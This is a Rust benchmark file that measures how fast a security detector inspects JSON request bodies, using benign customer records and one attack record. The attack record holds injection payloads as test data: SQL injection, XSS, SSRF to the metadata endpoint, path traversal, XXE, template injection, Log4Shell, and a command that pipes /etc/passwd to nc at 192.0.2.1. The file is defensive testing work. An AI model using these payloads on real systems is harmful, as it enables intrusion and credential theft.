//! Inspection cost of whole request bodies: every key and value of a JSON
//! document handed to the detector, as the gateway's check does (parsing the
//! JSON is not measured here; the policy crate's pipeline bench covers it).
//!
//! ```sh
//! cargo bench -p portcullis-detect --bench inspect
//! ```

use criterion::{Criterion, Throughput, criterion_group, criterion_main};
use portcullis_detect::{Detector, DetectorSettings, ValueKind};
use serde_json::Value;

/// A realistic 1 KB customer record: names with apostrophes, addresses,
/// e-mail, phone, prices, dates, a free-text note with punctuation.
fn benign_record(i: usize) -> Value {
    serde_json::json!({
        "id": format!("c2f1a8e4-9b7d-4c3e-8f21-{i:012}"),
        "name": "Miles O'Brien",
        "email": format!("miles.obrien+{i}@example.com"),
        "phone": "+1 (555) 010-4477 ext. 12",
        "address": {"line1": "221B Baker Street, Apt #4", "city": "London", "postcode": "NW1 6XE", "country": "GB"},
        "company": "O'Reilly & Sons, Ltd.",
        "tags": ["vip", "newsletter", "union station pickup"],
        "orders": [{"sku": "SKU-1042-B", "qty": 2, "price": 19.99}, {"sku": "SKU-77", "qty": 1, "price": 5.5}],
        "note": "Please drop off at 5pm; select the blue plan if it's still available (50% off?). Thanks!",
        "created_at": "2026-11-28T20:41:07.512Z",
        "locale": "en-GB,en;q=0.9",
        "active": true,
        "score": 4.75,
        "preferences": {"newsletter": "weekly", "language": "en-GB", "currency": "GBP", "timezone": "Europe/London"},
        "shipping": {"method": "standard", "instructions": "Leave with the neighbour at #6 if nobody's home.", "window": "09:00-12:00"},
        "review": "Great service, fast delivery. Would order again - 5/5 (the box was a bit damaged, though).",
        "referrer": "https://www.example.org/blog/best-tea-2026?utm_source=newsletter&utm_medium=email"
    })
}

fn attack_record() -> Value {
    serde_json::json!({
        "name": "x' or '1'='1",
        "email": "a@b.c\r\nBcc: victim@example.com",
        "bio": "<img src=x onerror=alert(document.cookie)>",
        "avatar": "http://169.254.169.254/latest/meta-data/",
        "file": "../../../../etc/passwd",
        "cmd": "x; cat /etc/passwd | nc 192.0.2.1 4444",
        "tpl": "{{self.__class__.__mro__[1].__subclasses__()}}",
        "log": "${${lower:j}ndi:ldap://example.com/a}",
        "filter": {"$ne": null},
        "q": "1 UNION ALL SELECT username, password FROM users--",
        "xml": "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>",
    })
}

/// `doc` with every string value made unique to record `i` (keys kept): an
/// array whose values never repeat, so no value is found clean twice.
fn distinct(doc: Value, i: usize) -> Value {
    match doc {
        Value::Object(map) => {
            Value::Object(map.into_iter().map(|(k, v)| (k, distinct(v, i))).collect())
        }
        Value::Array(items) => Value::Array(items.into_iter().map(|v| distinct(v, i)).collect()),
        Value::String(s) => Value::String(format!("{s} {i}")),
        other => other,
    }
}

fn values(v: &Value, out: &mut Vec<(String, bool)>) {
    match v {
        Value::Object(map) => {
            for (k, child) in map {
                out.push((k.clone(), true));
                values(child, out);
            }
        }
        Value::Array(items) => items.iter().for_each(|c| values(c, out)),
        Value::String(s) => out.push((s.clone(), false)),
        Value::Number(n) => out.push((n.to_string(), false)),
        Value::Bool(b) => out.push((b.to_string(), false)),
        Value::Null => {}
    }
}

fn body_of(doc: &Value) -> (usize, Vec<(String, bool)>) {
    let mut out = Vec::new();
    values(doc, &mut out);
    (serde_json::to_vec(doc).unwrap().len(), out)
}

fn bench(c: &mut Criterion) {
    let detector = Detector::new(&DetectorSettings::default());
    let cases = [
        ("benign_1k_json", body_of(&benign_record(1))),
        (
            "benign_64k_json",
            body_of(&Value::Array((0..62).map(benign_record).collect())),
        ),
        (
            "benign_64k_json_no_repeats",
            body_of(&Value::Array(
                (0..60).map(|i| distinct(benign_record(i), i)).collect(),
            )),
        ),
        ("attack_1k_json", body_of(&attack_record())),
    ];
    let mut group = c.benchmark_group("inspect");
    for (name, (bytes, vals)) in &cases {
        group.throughput(Throughput::Bytes(*bytes as u64));
        group.bench_function(
            format!("{name} ({bytes} bytes, {} values)", vals.len()),
            |b| {
                let mut out = Vec::new();
                b.iter(|| {
                    // One inspector per body, as the gateway keeps one per
                    // request (it remembers the values it found clean).
                    let mut inspector = detector.inspector();
                    out.clear();
                    for (v, is_key) in vals {
                        let kind = if *is_key {
                            ValueKind::JsonKey { parent: "" }
                        } else {
                            ValueKind::JsonValue
                        };
                        inspector.inspect(v, kind, &mut out);
                    }
                    out.len()
                })
            },
        );
    }
    group.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
